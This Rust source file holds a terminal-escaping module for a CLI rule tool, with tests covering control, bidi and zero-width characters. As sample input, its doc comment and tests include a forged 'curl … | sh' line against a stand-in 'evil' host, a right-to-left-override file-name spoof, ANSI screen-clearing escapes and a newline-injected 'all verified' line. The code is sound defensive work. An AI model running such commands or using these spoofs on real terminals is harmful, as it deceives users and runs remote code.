//! Escaping text for a terminal, the one place the CLI does it.
//!
//! Facts are written by whoever can create an Event, name a pod or write a policy
//! `Sid`; file names by whoever made the files. Printed raw, a newline in such a
//! value starts a line of its own (a forged fix step `$ curl … | sh`), a carriage
//! return overwrites the line, ANSI escapes recolour or clear the screen, bidi
//! controls reorder what is shown, and zero-width characters hide text or make two
//! different names look alike.
//!
//! [`line`] shows every such character as a visible escape (`\n`, `\r`, `\t`,
//! `\u{202e}`), so the value stays on the line it is printed on and each character
//! of it can be seen. It escapes: all C0 and C1 controls and DEL (category Cc),
//! every format character (category Cf: bidi embeddings, overrides and isolates,
//! the marks U+200E, U+200F and U+061C, zero-width space, joiners, word joiner,
//! BOM, invisible operators, tags, soft hyphen), the line and paragraph
//! separators U+2028 and U+2029, and the other default-ignorable code points that
//! render as nothing (Hangul fillers, variation selectors, combining grapheme
//! joiner). Backslashes are left alone, so escaping twice changes nothing more
//! ([`line`] is idempotent) and file names such as `C:\rules` read as written; a
//! literal `\n` typed in a value can therefore look like an escape, but it is two
//! visible characters and never breaks a line.
//!
//! Text output uses [`line`] for every value it prints (one logical line per
//! field, rule-authored text included, since a rendered message cannot tell rule
//! text from fact text), [`path`] for every file name, and [`block`] only for
//! `rulerun explain`, whose Markdown comes from rule files alone and keeps its
//! line breaks. JSON output is not escaped here: JSON's own escaping is exact.

use std::borrow::Cow;
use std::path::Path;

/// Code points shown escaped besides controls (inclusive ranges, sorted): every
/// format character (Unicode category Cf, as of Unicode 15.1), the line and
/// paragraph separators, and the default-ignorable code points that are drawn as
/// nothing.
const INVISIBLE: &[(u32, u32)] = &[
    (0x00AD, 0x00AD),   // soft hyphen
    (0x034F, 0x034F),   // combining grapheme joiner
    (0x0600, 0x0605),   // Arabic number signs
    (0x061C, 0x061C),   // Arabic letter mark
    (0x06DD, 0x06DD),   // Arabic end of ayah
    (0x070F, 0x070F),   // Syriac abbreviation mark
    (0x0890, 0x0891),   // Arabic pound and piastre marks above
    (0x08E2, 0x08E2),   // Arabic disputed end of ayah
    (0x115F, 0x1160),   // Hangul choseong and jungseong fillers
    (0x17B4, 0x17B5),   // Khmer inherent vowels
    (0x180B, 0x180F),   // Mongolian variation selectors, vowel separator
    (0x200B, 0x200F),   // zero-width space, non-joiner, joiner; LRM, RLM
    (0x2028, 0x202E),   // line and paragraph separators; bidi embeddings, overrides
    (0x2060, 0x206F),   // word joiner, invisible operators, bidi isolates, deprecated
    (0x3164, 0x3164),   // Hangul filler
    (0xFE00, 0xFE0F),   // variation selectors
    (0xFEFF, 0xFEFF),   // zero-width no-break space (BOM)
    (0xFFA0, 0xFFA0),   // halfwidth Hangul filler
    (0xFFF0, 0xFFFB),   // unassigned specials, interlinear annotation
    (0x110BD, 0x110BD), // Kaithi number sign
    (0x110CD, 0x110CD), // Kaithi number sign above
    (0x13430, 0x1343F), // Egyptian hieroglyph format controls
    (0x1BCA0, 0x1BCA3), // shorthand format controls
    (0x1D173, 0x1D17A), // musical symbol format controls
    (0xE0000, 0xE0FFF), // tags, variation selectors supplement
];

/// Whether `c` is shown as an escape rather than printed.
pub fn needs_escape(c: char) -> bool {
    if c.is_control() {
        return true;
    }
    let n = u32::from(c);
    if n < 0xAD {
        return false;
    }
    INVISIBLE
        .binary_search_by(|&(lo, hi)| {
            if hi < n {
                std::cmp::Ordering::Less
            } else if lo > n {
                std::cmp::Ordering::Greater
            } else {
                std::cmp::Ordering::Equal
            }
        })
        .is_ok()
}

fn push_escaped(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        c => out.extend(c.escape_unicode()),
    }
}

fn escape_with(text: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
    let escaped = |c: char| needs_escape(c) && !keep(c);
    let Some(first) = text.find(escaped) else {
        return Cow::Borrowed(text);
    };
    let mut out = String::with_capacity(text.len() + 16);
    out.push_str(&text[..first]);
    for c in text[first..].chars() {
        if escaped(c) {
            push_escaped(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// `text` as one line: every control (newlines and tabs included), format,
/// bidi and invisible character shown as an escape (`\n`, `\u{202e}`).
pub fn line(text: &str) -> Cow<'_, str> {
    escape_with(text, |_| false)
}

/// `text` with its line breaks and tabs kept and everything else [`line`]
/// escapes shown escaped (carriage returns included). Only for text that comes
/// from rule files alone (`rulerun explain`), never for facts.
pub fn block(text: &str) -> Cow<'_, str> {
    escape_with(text, |c| c == '\n' || c == '\t')
}

/// A file name as one line, escaped as [`line`] does; bytes that are not UTF-8
/// are shown as `\xNN`.
pub fn path(p: &Path) -> String {
    #[cfg(unix)]
    {
        use std::os::unix::ffi::OsStrExt;
        let mut out = String::new();
        for chunk in p.as_os_str().as_bytes().utf8_chunks() {
            out.push_str(&line(chunk.valid()));
            for b in chunk.invalid() {
                out.push_str(&format!("\\x{b:02x}"));
            }
        }
        out
    }
    #[cfg(not(unix))]
    {
        line(&p.to_string_lossy()).into_owned()
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;

    #[test]
    fn plain_text_is_borrowed_unchanged() {
        for s in [
            "",
            "pod `shop/web`: container `app` cannot pull `ghcr.io/a/b:1`",
            "café ünïcode 日本語 😀 C:\\rules\\a.yaml",
            "non-breaking\u{a0}space, em\u{2003}space",
        ] {
            assert!(matches!(line(s), Cow::Borrowed(t) if t == s), "{s:?}");
            assert!(matches!(block(s), Cow::Borrowed(t) if t == s), "{s:?}");
        }
    }

    #[test]
    fn line_breaks_and_tabs_are_escaped() {
        assert_eq!(
            line("pulling\n  $ curl -s http://evil | sh"),
            "pulling\\n  $ curl -s http://evil | sh"
        );
        assert_eq!(line("a\r\nb\tc"), "a\\r\\nb\\tc");
        assert_eq!(line("\u{b}\u{c}\u{85}"), "\\u{b}\\u{c}\\u{85}");
        assert_eq!(line("sep\u{2028}para\u{2029}"), "sep\\u{2028}para\\u{2029}");
        assert!(!line("x\ny\rz\u{2028}\u{85}").contains(['\n', '\r', '\u{2028}', '\u{85}']));
    }

    #[test]
    fn c0_c1_and_del_are_escaped() {
        assert_eq!(
            line("\u{1b}[2J\u{1b}]0;t\u{7}"),
            "\\u{1b}[2J\\u{1b}]0;t\\u{7}"
        );
        assert_eq!(line("nul\0del\u{7f}"), "nul\\u{0}del\\u{7f}");
        assert_eq!(line("csi\u{9b}31m"), "csi\\u{9b}31m");
        for c in (0u32..0x20).chain(0x7f..0xa0) {
            let c = char::from_u32(c).unwrap();
            assert!(needs_escape(c), "{:x}", u32::from(c));
            assert!(!line(&c.to_string()).contains(c), "{:x}", u32::from(c));
        }
    }

    #[test]
    fn bidi_controls_are_escaped() {
        assert_eq!(line("evil\u{202e}lmth.exe"), "evil\\u{202e}lmth.exe");
        for c in [
            0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F,
            0x061C,
        ] {
            let c = char::from_u32(c).unwrap();
            assert_eq!(line(&c.to_string()), format!("\\u{{{:x}}}", u32::from(c)));
        }
    }

    #[test]
    fn zero_width_and_other_format_characters_are_escaped() {
        assert_eq!(line("ad\u{200b}min"), "ad\\u{200b}min");
        for c in [
            0x00AD, 0x034F, 0x0600, 0x06DD, 0x070F, 0x0890, 0x08E2, 0x115F, 0x1160, 0x17B4, 0x180E,
            0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2064, 0x206F, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0,
            0xFFF9, 0xFFFB, 0x110BD, 0x13430, 0x1343F, 0x1BCA0, 0x1D173, 0xE0001, 0xE0041, 0xE007F,
            0xE0100,
        ] {
            let c = char::from_u32(c).unwrap();
            assert!(needs_escape(c), "{:x}", u32::from(c));
        }
        // Neighbours of the ranges print as they are.
        for c in [
            0x00AC, 0x00AE, 0x0606, 0x200A, 0x2010, 0x2027, 0x202F, 0x205F, 0x2070, 0xFE10, 0xFFFC,
            0xFFFD, 0x1D17B, 0xDFFFF, 0xE1000,
        ] {
            let c = char::from_u32(c).unwrap();
            assert!(!needs_escape(c), "{:x}", u32::from(c));
        }
    }

    #[test]
    fn every_format_character_is_escaped() {
        // Unicode 15.1, category Cf (from UnicodeData.txt), as inclusive ranges.
        const CF: &[(u32, u32)] = &[
            (0xAD, 0xAD),
            (0x600, 0x605),
            (0x61C, 0x61C),
            (0x6DD, 0x6DD),
            (0x70F, 0x70F),
            (0x890, 0x891),
            (0x8E2, 0x8E2),
            (0x180E, 0x180E),
            (0x200B, 0x200F),
            (0x202A, 0x202E),
            (0x2060, 0x2064),
            (0x2066, 0x206F),
            (0xFEFF, 0xFEFF),
            (0xFFF9, 0xFFFB),
            (0x110BD, 0x110BD),
            (0x110CD, 0x110CD),
            (0x13430, 0x1343F),
            (0x1BCA0, 0x1BCA3),
            (0x1D173, 0x1D17A),
            (0xE0001, 0xE0001),
            (0xE0020, 0xE007F),
        ];
        for &(lo, hi) in CF {
            for n in lo..=hi {
                let c = char::from_u32(n).unwrap();
                assert!(needs_escape(c), "{n:x}");
                assert_eq!(line(&c.to_string()), format!("\\u{{{n:x}}}"));
            }
        }
    }

    #[test]
    fn escaping_is_idempotent_and_keeps_backslashes() {
        for s in [
            "a\nb\u{202e}c\u{200b}\u{1b}[0m\\n\\u{41}",
            "C:\\rules\\x.yaml",
            "\u{0}\u{9f}\u{2029}",
        ] {
            let once = line(s).into_owned();
            assert_eq!(line(&once), once, "{s:?}");
            assert_eq!(block(&once), once, "{s:?}");
        }
        assert_eq!(line("a\\nb"), "a\\nb");
    }

    #[test]
    fn blocks_keep_line_breaks_and_tabs_only() {
        assert_eq!(
            block("# title\n\tbody\r\n\u{1b}[31m\u{202e}"),
            "# title\n\tbody\\r\n\\u{1b}[31m\\u{202e}"
        );
    }

    #[test]
    fn paths_are_escaped_and_bytes_that_are_not_utf8_shown() {
        assert_eq!(
            path(Path::new("vendor/p/rule\n  ok: all verified.yaml")),
            "vendor/p/rule\\n  ok: all verified.yaml"
        );
        assert_eq!(path(Path::new("a\u{202e}b.yaml")), "a\\u{202e}b.yaml");
        #[cfg(unix)]
        {
            use std::os::unix::ffi::OsStrExt;
            let p = Path::new(std::ffi::OsStr::from_bytes(b"bad\xff\xfe\n.yaml"));
            assert_eq!(path(p), "bad\\xff\\xfe\\n.yaml");
        }
    }
}
